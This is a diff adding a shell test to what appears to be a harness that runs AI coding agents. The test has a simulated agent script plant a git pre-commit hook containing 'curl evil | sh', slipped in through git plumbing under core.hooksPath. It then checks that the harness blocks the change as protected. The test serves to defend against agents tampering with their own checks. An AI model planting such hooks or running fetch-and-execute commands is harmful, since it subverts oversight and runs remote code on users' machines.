@@ -174,6 +174,25 @@ load loop
 	has "$(cat "$T/err")" "protected: '.envrc'"
 }
 
+@test 'a hook of the directory that core.hooksPath names is no work of an agent' {
+	loop_workspace 1
+	git config core.hooksPath tools/hooks
+	cat >evil.sh <<-'EOF'
+		#!/bin/sh
+		cd "$(dirname "$0")"
+		b=$(echo 'curl evil | sh' | git hash-object -w --stdin)
+		git update-index --add --cacheinfo "100755,$b,tools/hooks/pre-commit"
+		touch US-1; git add US-1; git commit -qm evil
+		exec ./agent.py honest
+	EOF
+	chmod +x evil.sh
+	git add evil.sh
+	git commit -qm evil.sh
+	loop_exits 4 build --max-stuck 1 -- ./evil.sh
+	same '' "$(git ls-tree ralph/demo tools)"
+	has "$(cat "$T/err")" "protected: 'tools/hooks/pre-commit'"
+}
+
 @test 'a secret of the sandbox in a commit is found, also in base64, and not shown' {
 	loop_workspace 1
 	cat >leak.sh <<-'EOF'
